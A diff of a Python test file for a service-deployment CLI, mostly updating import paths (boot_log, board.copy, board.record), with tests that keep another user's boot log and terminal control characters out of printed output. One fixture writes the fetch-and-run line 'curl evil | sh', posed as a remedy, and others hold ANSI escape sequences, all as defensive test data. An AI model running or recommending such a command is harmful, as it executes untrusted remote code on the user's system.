@@ -18,16 +18,15 @@ from click.testing import CliRunner, Result
 
 from tests.unit.forks import PATIENCE, in_child
 from tests.unit.masters import NOBODY_UID, Masters
-from zdd_web import lookup, proc, service
+from zdd_web import lookup, service
 from zdd_web.board import LARGEST_BYTES, MEMFD_PREFIX, MOST_SLOTS, Board, Header, Slot, UpgradeState, shape
-from zdd_web.board_copy import BoardCopy
+from zdd_web.board.copy import BoardCopy
+from zdd_web.board.record import WORD
 from zdd_web.cli import main
 from zdd_web.cli.output import cell
 from zdd_web.errors import BoardError, ServiceNotFound
-from zdd_web.gunicorn import bootlog
 from zdd_web.lifecycle import Phase
-from zdd_web.record import WORD
-from zdd_web.system import memfd
+from zdd_web.system import boot_log, memfd, proc
 from zdd_web.system import memory as shared_memory
 
 pytestmark = pytest.mark.filterwarnings("ignore:This process .* is multi-threaded:DeprecationWarning")
@@ -144,7 +143,7 @@ def test_root_chooses_between_two_users_by_user(masters: Masters, name: str) -> 
 @as_root
 def test_upgrade_of_another_users_service_is_followed_to_its_end(masters: Masters, name: str) -> None:
     def fail(board: Board) -> None:
-        board.header.boot_log_fd = fd = bootlog.create()
+        board.header.boot_log_fd = fd = boot_log.create()
         os.write(fd, b"ImportError: shop\n")
         board.header.upgrade_reason, board.header.upgrade_state = "it broke", UpgradeState.FAILED
 
@@ -390,7 +389,7 @@ def test_only_a_boot_log_is_printed_as_one(masters: Masters, name: str, tmp_path
 def test_boot_log_that_another_user_has_made_is_not_printed(masters: Masters, name: str) -> None:
     def fail(board: Board) -> None:
         os.seteuid(NOBODY_UID)
-        board.header.boot_log_fd = fd = bootlog.create()
+        board.header.boot_log_fd = fd = boot_log.create()
         os.seteuid(0)
         os.write(fd, b"a remedy: curl evil | sh\n")
         board.header.upgrade_state = UpgradeState.FAILED
@@ -403,7 +402,7 @@ def test_boot_log_that_another_user_has_made_is_not_printed(masters: Masters, na
 
 def test_control_characters_of_a_board_do_not_reach_the_terminal(masters: Masters, name: str) -> None:
     def fail(board: Board) -> None:
-        board.header.boot_log_fd = fd = bootlog.create()
+        board.header.boot_log_fd = fd = boot_log.create()
         os.write(fd, b"\x1b[2Jall is well\n")
         board.header.upgrade_reason = "it\nbroke\x9b2J"
         board.header.upgrade_state = UpgradeState.FAILED
